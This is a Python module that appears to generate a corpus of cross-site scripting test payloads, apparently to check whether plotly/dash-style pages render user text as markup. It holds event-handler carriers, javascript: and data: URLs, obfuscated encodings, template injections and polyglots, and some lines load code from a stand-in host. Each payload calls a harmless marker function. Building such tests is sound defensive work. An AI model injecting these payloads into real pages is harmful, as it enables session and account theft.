"""Texts that would run if a page took them for more than text, put together from small tables at run time.

Each calls `__x(n)` with a number of its own, so that a test sees which one ran.
"""

from __future__ import annotations

from itertools import cycle
from urllib.parse import quote

CALL = "__x({n})"
BREAKOUTS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</option>", "]]>", "</noscript>")
"""What would end the place that a text was put into."""
CARRIERS = (
    "<img src=x {on}={js}>",
    "<img/src=x {on}='{js}'>",
    "<svg {on}={js}>",
    "<svg><animate attributeName=x dur=1s {on}={js}>",
    "<details open {on}={js}>x",
    "<input autofocus {on}={js}>",
    "<video src=x {on}={js}>",
    "<body {on}={js}>",
    "<marquee {on}={js}>x",
    "<style {on}={js}>*{{}}</style>",
    "<object data=x {on}={js}></object>",
    "<x tabindex=1 id=x {on}={js}>",
)
EVENTS = ("onerror", "onload", "ontoggle", "onfocus", "onbegin", "onstart", "onmouseover", "onanimationstart")
CASES = (str.lower, str.upper, lambda word: word[:3].title() + word[3:], lambda word: f"{word}\t")
"""How the name of an event may be written."""
SCRIPTS = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script/x>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script src=data:,{enc}></script>",
    "<script src=//x.invalid/{n}></script>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=data:,{enc} /></svg>",
    "<iframe srcdoc='<script>parent.{js}</script>'>",
    "<iframe src=javascript:parent.{js}>",
    "<template shadowrootmode=open><script>{js}</script></template>",
    "<base href=//x.invalid/{n}/>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<link rel=stylesheet href=//x.invalid/{n}.css>",
    "<link rel=prefetch href=//x.invalid/p{n}>",
    "<embed src=javascript:{js}>",
    "<form action=javascript:{js}><button autofocus>x</button></form>",
    "<isindex type=image src=1 onerror={js}>",
)
MUTATIONS = (
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<svg></p><style><a id='</style><img src=x onerror={js}>'>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<xmp><p title='</xmp><svg/onload={js}>'>",
    "<select><template><img src=x onerror={js}></template></select>",
    "<math href=javascript:{js}>x</math>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}/>#x'/></svg>",
    "<svg><foreignObject><iframe onload={js}></foreignObject></svg>",
    "<svg><a xlink:href=javascript:{js}><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onload to={js}></svg>",
)
ADDRESSES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "\x01javascript:{js}",
    " javascript:{js}",
    "javascript&colon;{js}",
    "javascript://x%0a{js}",
    "data:text/html,<script>{js}</script>",
    "vbscript:{js}",
    "//x.invalid/{n}",
    "blob:{js}",
    "feed:javascript:{js}",
)
ADDRESSED = (
    "{to}",
    "[x]({to})",
    "![x]({to})",
    "<{to}>",
    "[x]: {to}",
    '<a href="{to}">x</a>',
    "<a href='{to}' target=_self>x",
)
"""An address by itself, as Markdown links to it, as HTML does; plotly draws the last two in its texts."""
ENCODED = (
    "&lt;img src=x onerror={js}&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "%3Cimg%20src%3Dx%20onerror%3D{js}%3E",
    "\\u003cimg src=x onerror={js}\\u003e",
    "\\x3csvg onload={js}\\x3e",
    "＜img src=x onerror={js}＞",
    "‹svg onload={js}›",
    "<\u200bimg src=x onerror={js}>",
    "\ufeff<svg/onload={js}>",
    "\u202e<img src=x onerror={js}>",
    "<ſcript>{js}</ſcript>",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "<img src=x onerror=&#95;&#95;x&lpar;{n}&rpar;>",
    "<img src=x onerror=\\u005f_x({n})>",
    "\u2028<svg onload={js}>",
)
TEMPLATES = (
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "{{% {js} %}}",
    "[[{js}]]",
    "';{js};'",
    '";{js};"',
    "\\';{js};//",
    "`;{js};`",
    "</script><script>{js}</script>",
    '{{"props":{{"dangerouslySetInnerHTML":{{"__html":"<img src=x onerror={js}>"}}}}}}',
    '{{"namespace":"dash_html_components","type":"Iframe","props":{{"srcDoc":"<script>parent.{js}</script>"}}}}',
    "__proto__[onerror]={js}",
    "%(asctime)s{js}%n",
)
FIGURES = (
    "<extra><img src=x onerror={js}></extra>",
    "<extra></extra><b onclick={js}>x</b>",
    "<br><sub onmouseover={js}>x</sub>",
    "<span style='background:url(javascript:{js})'>x</span>",
    '<b><i><sup><a href="data:text/html,<script>{js}</script>">x</a></sup></i></b>',
    "%{{customdata}}<svg onload={js}>",
    "%{{x|<img src=x onerror={js}>}}",
    "$\\href{{javascript:{js}}}{{x}}$",
)
STYLES = (
    "<style>@import '//x.invalid/{n}.css';</style>",
    "<p style=background:url(//x.invalid/c{n})>x</p>",
    "<p style=width:expression({js})>x</p>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={js}>x</b>",
    "}}body{{background:url(//x.invalid/b{n})}}",
    "<p style=-moz-binding:url(//x.invalid/m{n})>x</p>",
)
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{js} )//</stYle/</titLe/</scRipt/--!><sVg/oNloAd={js}//>",
    "\"'--><svg/onload={js}>//</script><img src=x onerror={js}>",
    "'\"`><img src=x onerror={js}><!--</textarea></title><svg onload={js}>",
    "%0aSet-Cookie:x=1%0a%0a<svg onload={js}>",
    "<a href=\"javascript:{js}\" onclick='{js}' style=x:expression({js})>x",
)
PLAIN = (*SCRIPTS, *MUTATIONS, *ENCODED, *TEMPLATES, *FIGURES, *STYLES, *POLYGLOTS)
LEAST = 200


def payloads() -> tuple[str, ...]:
    """At least LEAST texts, all different."""
    forms = [*_list_carried(), *_list_addressed(), *PLAIN]
    made = dict.fromkeys(_fill_carrier(form, number) for number, form in enumerate(forms, 1))
    assert len(made) >= LEAST
    return tuple(made)


def _fill_carrier(form: str, number: int) -> str:
    call = CALL.format(n=number)
    return form.format(js=call, n=number, enc=quote(call))


def _list_carried() -> list[str]:
    """Every carrier with every event; how each is written and what it breaks out of goes round."""
    written, out = cycle(CASES), cycle(BREAKOUTS)
    return [
        next(out) + carrier.replace("{on}", next(written)(event)) for carrier in CARRIERS for event in EVENTS
    ]


def _list_addressed() -> list[str]:
    return [around.replace("{to}", address) for around in ADDRESSED for address in ADDRESSES]
